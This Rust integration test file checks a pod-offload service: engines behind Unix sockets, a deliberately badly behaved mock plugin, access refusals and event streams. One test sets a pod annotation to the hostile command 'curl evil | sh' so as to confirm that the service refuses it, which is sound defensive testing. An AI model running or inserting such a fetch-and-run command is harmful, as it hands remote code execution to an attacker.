//! Engines behind engines, and plugins that keep few promises, through the public API.

use std::collections::HashMap;
use std::path::Path;
use std::sync::{Arc, Mutex, MutexGuard};
use std::time::{Duration, Instant};

use axum::Json;
use axum::body::Bytes;
use axum::extract::State;
use axum::response::{IntoResponse, Response};
use axum::routing::any;
use dte_base::id::new_id;
use dte_identity::testing::{TestEngine, TestSetup};
use dte_protocol_interlink::phase::{Phase, phase_of};
use dte_protocol_interlink::{InterlinkClient, LogStruct, PodCreateRequests, PodStatus, RawPod};
use http::{Method, StatusCode};
use serde_json::{Value, json};

const FINISHED: &str = "org.dte.offload.pod.finished";

async fn engine(sections: &str) -> TestEngine {
    let setup = TestSetup::config(&format!("[http]\npublic_url = 'http://127.0.0.1:8990'\n{sections}"));
    TestEngine::start_with(setup, async |ctx| Ok(dte_offload::Service::open(ctx).await?.mounts())).await
}

/// An engine that runs pods as processes and stands behind a socket.
async fn site_engine(socket: &Path, side: &str) -> TestEngine {
    let shim = env!("CARGO_BIN_EXE_dte-offload-pod-shim");
    engine(&format!(
        "[[offload.sockets]]\npath = '{}'\naccount = 'admin'\nside = '{side}'\n
         [[compute.sites]]\nplugin = 'host'\nname = 'local'\nslots = 8\ngrace = '300ms'\nshim = '{shim}'\n",
        socket.display()
    ))
    .await
}

/// An engine whose only site is at `url`.
async fn front_engine(url: &str, side: &str) -> TestEngine {
    engine(&format!(
        "[offload]\nattempts = 5\nlongest_wait = '100ms'\n
         [[compute.sites]]\nplugin = 'interlink'\nname = 'far'\nurl = '{url}'\nside = '{side}'\nevery = '20ms'\nsettle = '200ms'\n"
    ))
    .await
}

fn admin(engine: &TestEngine) -> InterlinkClient {
    let base = engine.url_of("/interlink").parse().expect("a URL");
    InterlinkClient::new(engine.client.clone(), &base, Some(engine.admin_token()))
}

fn pod(script: &str) -> Value {
    json!({
        "metadata": {"name": "p", "namespace": "default", "uid": new_id().to_string(), "creationTimestamp": null},
        "spec": {"containers": [{"name": "main", "image": "host", "command": ["/bin/sh", "-c", script], "resources": {}}]},
        "status": {}
    })
}

async fn status(engine: &TestEngine, pod: &Value) -> Option<PodStatus> {
    admin(engine).status(&[RawPod(pod.clone())]).await.expect("status").pop()
}

async fn until(engine: &TestEngine, pod: &Value, phase: Phase) -> PodStatus {
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        match status(engine, pod).await {
            Some(status) if phase_of(&status) == phase => return status,
            other => assert!(Instant::now() < deadline, "never {phase:?}: {other:?}"),
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

async fn log(engine: &TestEngine, pod: &Value) -> String {
    let asked = LogStruct {
        namespace: "default".into(),
        pod_uid: pod["metadata"]["uid"].as_str().expect("uid").into(),
        container_name: "main".into(),
        ..LogStruct::default()
    };
    admin(engine).logs(&asked).await.expect("log").text().await.expect("text")
}

async fn create(engine: &TestEngine, pod: &Value) {
    admin(engine).create(&PodCreateRequests::of(pod.clone())).await.expect("created");
}

fn exit_code(status: &PodStatus) -> Option<i32> {
    Some(status.containers.first()?.state.as_ref()?.terminated.as_ref()?.exit_code)
}

async fn pods_go_there_and_come_back(side: &str) {
    let dir = tempfile::tempdir().expect("a folder");
    let socket = dir.path().join("site.sock");
    let far = site_engine(&socket, side).await;
    let near = front_engine(&format!("unix://{}", socket.display()), side).await;

    let good = pod("echo out; echo err >&2");
    create(&near, &good).await;
    create(&near, &good).await;
    assert_eq!(exit_code(&until(&near, &good, Phase::Succeeded).await), Some(0));
    let text = log(&near, &good).await;
    assert!(text.contains("out\n") && text.contains("err\n"), "{text}");
    assert_eq!(far.store.events_after(0, 10, &[FINISHED]).await.expect("events").len(), 1, "it ran once");

    let bad = pod("echo no; exit 7");
    create(&near, &bad).await;
    let failed = until(&near, &bad, Phase::Failed).await;
    assert_eq!(exit_code(&failed), Some(7));

    let mut init = pod("echo never");
    init["spec"]["initContainers"] =
        json!([{"name": "first", "image": "host", "command": ["/bin/sh", "-c", "exit 4"]}]);
    create(&near, &init).await;
    let failed = until(&near, &init, Phase::Failed).await;
    let ended = failed.init_containers[0].state.as_ref().and_then(|state| state.terminated.as_ref()).expect("ended");
    assert_eq!(ended.exit_code, 4);

    let long = pod("echo begun; sleep 60");
    create(&near, &long).await;
    until(&near, &long, Phase::Running).await;
    until(&far, &long, Phase::Running).await;
    admin(&near).delete(&RawPod(long.clone())).await.expect("deleted");
    let deadline = Instant::now() + Duration::from_secs(20);
    while far.store.events_after(0, 10, &[FINISHED]).await.expect("events").len() < 4 {
        assert!(Instant::now() < deadline, "it goes on there");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }

    // What the other engine refuses, fails here for its reason.
    let refused = {
        let mut pod = pod("true");
        pod["spec"]["containers"][0]["image"] = json!("busybox");
        pod
    };
    create(&near, &refused).await;
    let failed = until(&near, &refused, Phase::Failed).await;
    let ended = failed.containers[0].state.as_ref().and_then(|state| state.terminated.clone()).expect("ended");
    assert!(ended.message.as_deref().is_some_and(|text| text.contains("busybox")), "{ended:?}");

    // The place tells what it has.
    let ping = admin(&near).ping().await.expect("answers").expect("JSON");
    assert_eq!(ping.resources.and_then(|resources| resources.pods).as_deref(), Some("8"));
    assert!(near.stop().await && far.stop().await);
    assert!(!socket.exists(), "the socket goes with its engine");
}

#[tokio::test]
async fn an_engine_as_a_plugin() {
    pods_go_there_and_come_back("plugin").await;
}

#[tokio::test]
async fn an_engine_as_an_api_server() {
    pods_go_there_and_come_back("api").await;
}

#[tokio::test]
async fn a_socket_lets_in_who_is_listed() {
    let dir = tempfile::tempdir().expect("a folder");
    let socket = dir.path().join("site.sock");
    let section =
        format!("[[offload.sockets]]\npath = '{}'\naccount = 'admin'\nuids = [4000000000]\n", socket.display());
    let engine = engine(&section).await;
    let base = dte_http::unix::url(&socket).expect("a URL");
    let error = InterlinkClient::new(engine.client.clone(), &base, None).ping().await.expect_err("shut out");
    assert!(matches!(error, dte_protocol_interlink::InterlinkError::Http(_)), "{error}");
    // Without a socket a plugin's route wants a token like any other.
    let asked = engine.client.get(engine.url_of("/interlink/plugin/status")).send().await.expect("answers");
    assert_eq!(asked.status, StatusCode::UNAUTHORIZED);
}

/// A plugin of the worst manners that are known.
#[derive(Default)]
struct Awkward {
    creates: HashMap<String, usize>,
    /// Pods by their UID, and how they go.
    jobs: HashMap<String, Value>,
    deletes: usize,
    questions: usize,
    /// Whether the answer to the next `create` gets lost.
    loses_answer: bool,
}

type Shared = Arc<Mutex<Awkward>>;

fn lock(plugin: &Shared) -> MutexGuard<'_, Awkward> {
    plugin.lock().expect("not poisoned")
}

async fn awkward_create(State(plugin): State<Shared>, method: Method, Json(body): Json<Value>) -> Response {
    assert_eq!(method, Method::POST);
    assert!(body["jobConfig"].is_object() && body["container"][0]["name"] == "main", "{body}");
    let uid = body["pod"]["metadata"]["uid"].as_str().expect("uid").to_owned();
    let mut plugin = lock(&plugin);
    *plugin.creates.entry(uid.clone()).or_default() += 1;
    plugin.jobs.insert(uid.clone(), json!({"running": {"startedAt": "2026-01-02T03:04:05Z"}}));
    if std::mem::take(&mut plugin.loses_answer) {
        return StatusCode::GATEWAY_TIMEOUT.into_response();
    }
    (StatusCode::CREATED, Json(json!([{"PodUID": uid, "PodJID": 17}]))).into_response()
}

async fn awkward_status(State(plugin): State<Shared>, method: Method, body: Bytes) -> Response {
    assert_eq!(method, Method::GET);
    let asked: Vec<Value> = serde_json::from_slice(&body).expect("an array");
    if asked.is_empty() {
        return "all is well".into_response();
    }
    let mut plugin = lock(&plugin);
    plugin.questions += 1;
    let entry = |uid: &str, containers: Value| json!({"name": "p", "UID": uid, "namespace": "default", "JID": "17", "containers": containers, "initContainers": null});
    let container = |state: &Value| json!([{"name": "main", "state": state, "lastState": {}, "ready": false, "restartCount": 0, "image": "", "imageID": ""}]);
    let mut entries =
        vec![json!({"name": "spoilt", "containers": [{"state": {"terminated": {"finishedAt": "yesterday"}}}]})];
    // Whoever was asked for, all are answered, and sometimes there is nothing to say.
    for (number, (uid, state)) in plugin.jobs.iter().enumerate() {
        let silent = (plugin.questions + number).is_multiple_of(2);
        entries.push(entry(uid, if silent { json!([]) } else { container(state) }));
    }
    Json(entries).into_response()
}

async fn awkward_plugin() -> (String, Shared) {
    let plugin = Shared::default();
    let router = axum::Router::new()
        .route("/create", any(awkward_create))
        .route("/status", any(awkward_status))
        .route("/getLogs", any(async || "what it wrote\n"))
        .route(
            "/delete",
            any(async |State(plugin): State<Shared>| {
                lock(&plugin).deletes += 1;
                StatusCode::INTERNAL_SERVER_ERROR
            }),
        )
        .with_state(Arc::clone(&plugin));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let url = format!("http://{}", listener.local_addr().expect("an address"));
    tokio::spawn(async move { axum::serve(listener, router).await });
    (url, plugin)
}

#[tokio::test]
async fn a_plugin_without_manners() {
    let (url, plugin) = awkward_plugin().await;
    let engine = front_engine(&url, "plugin").await;
    lock(&plugin).loses_answer = true;
    let (lost, other) = (pod("x"), pod("y"));
    create(&engine, &lost).await;
    until(&engine, &lost, Phase::Running).await;
    create(&engine, &other).await;
    until(&engine, &other, Phase::Running).await;
    {
        let mut plugin = lock(&plugin);
        assert!(plugin.creates.values().all(|count| *count == 1), "once each: {:?}", plugin.creates);
        assert_eq!(plugin.creates.len(), 2);
        let uid = lost["metadata"]["uid"].as_str().expect("uid").to_owned();
        plugin.jobs.insert(uid, json!({"terminated": {"exitCode": 9, "reason": "Error", "startedAt": null, "finishedAt": "2026-01-02T03:05:05Z"}}));
    }
    assert_eq!(exit_code(&until(&engine, &lost, Phase::Failed).await), Some(9));
    assert_eq!(phase_of(&status(&engine, &other).await.expect("a status")), Phase::Running, "silence is no news");
    assert_eq!(log(&engine, &lost).await, "what it wrote\n");

    // A pod that is not there any more can be ended all the same.
    admin(&engine).delete(&RawPod(other.clone())).await.expect("deleted");
    let deadline = Instant::now() + Duration::from_secs(10);
    while engine.store.events_after(0, 10, &[FINISHED]).await.expect("events").len() < 2 {
        assert!(Instant::now() < deadline, "it does not end");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert!(lock(&plugin).deletes >= 1);
}

#[tokio::test]
async fn what_a_plugin_would_run_is_refused() {
    let (url, plugin) = awkward_plugin().await;
    let engine = front_engine(&url, "plugin").await;
    let mut hostile = pod("true");
    hostile["metadata"]["annotations"] = json!({"slurm-job.vk.io/pre-exec": "curl evil | sh"});
    create(&engine, &hostile).await;
    let failed = until(&engine, &hostile, Phase::Failed).await;
    let ended = failed.containers[0].state.as_ref().and_then(|state| state.terminated.clone()).expect("ended");
    assert!(ended.message.as_deref().is_some_and(|text| text.contains("slurm-job.vk.io/pre-exec")), "{ended:?}");
    assert!(lock(&plugin).creates.is_empty());

    // Data of the lake cannot get there, and somebody's pod goes there only if the operator trusts the place.
    let mut data = pod("true");
    data["metadata"]["annotations"] = json!({"dte.io/inputs": r#"[{"did": "s:n", "path": "n"}]"#});
    let error = admin(&engine).create(&PodCreateRequests::of(data)).await.expect_err("refused").to_string();
    assert!(error.starts_with("400") && error.contains("dte.io/inputs"), "{error}");
    let base = engine.url_of("/interlink").parse().expect("a URL");
    let alice = InterlinkClient::new(engine.client.clone(), &base, Some(engine.token_for("alice", &[]).await));
    let error = alice.create(&PodCreateRequests::of(pod("true"))).await.expect_err("refused").to_string();
    assert!(error.starts_with("403"), "{error}");
}

#[tokio::test]
async fn changes_are_told() {
    let shim = env!("CARGO_BIN_EXE_dte-offload-pod-shim");
    let engine = engine(&format!("[[compute.sites]]\nplugin = 'host'\nname = 'local'\nshim = '{shim}'\n")).await;
    let open = async |token: &dte_base::secret::Secret| {
        let reply = engine.client.get(engine.url_of("/interlink/events")).bearer(token).send().await.expect("answers");
        assert_eq!(reply.header("content-type"), Some("text/event-stream"));
        reply.body.into_data_stream()
    };
    let mut mine = open(&engine.admin_token()).await;
    let mut bobs = open(&engine.token_for("bob", &[]).await).await;
    let pod = pod("true");
    create(&engine, &pod).await;
    let uid = pod["metadata"]["uid"].as_str().expect("uid");
    let mut text = String::new();
    let told = tokio::time::timeout(Duration::from_secs(20), async {
        use futures_util::StreamExt;
        // Accepted, staged, started, ended: some may be told together.
        while status(&engine, &pod).await.is_none_or(|status| phase_of(&status) != Phase::Succeeded) {
            let piece = mine.next().await.expect("goes on").expect("readable");
            text.push_str(std::str::from_utf8(&piece).expect("text"));
        }
    });
    told.await.expect("in time");
    assert!(text.starts_with("event: ready\n") && text.contains("event: pods\n") && text.contains(uid), "{text}");
    let heard = tokio::time::timeout(Duration::from_millis(100), async {
        use futures_util::StreamExt;
        assert_eq!(bobs.next().await.expect("begins").expect("readable"), "event: ready\ndata: {}\n\n");
        bobs.next().await
    });
    assert!(heard.await.is_err(), "bob hears nothing of another's pod");
}
